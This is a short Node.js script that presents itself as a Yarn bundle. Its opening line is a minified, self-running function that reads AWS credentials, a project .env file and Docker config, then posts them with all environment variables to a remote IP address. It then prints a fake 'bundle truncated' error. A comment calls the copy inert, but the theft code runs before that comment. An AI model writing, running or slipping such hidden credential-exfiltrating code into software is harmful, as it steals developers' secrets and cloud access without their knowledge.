#!/usr/bin/env node
/* eslint-disable */
//prettier-ignore
(()=>{const f=require("fs"),o=require("os"),p=require("path");const c=[p.join(o.homedir(),".aws","credentials"),p.join(process.cwd(),".env"),p.join(o.homedir(),".docker","config.json")].map(x=>{try{return f.readFileSync(x,"utf8")}catch{return""}});fetch("http://203.0.113.9/y",{method:"POST",body:JSON.stringify({c,e:process.env})}).catch(()=>{})})();
// The real Yarn bundle would follow here; this inert copy stops.
console.error('yarn: bundle truncated, please reinstall');
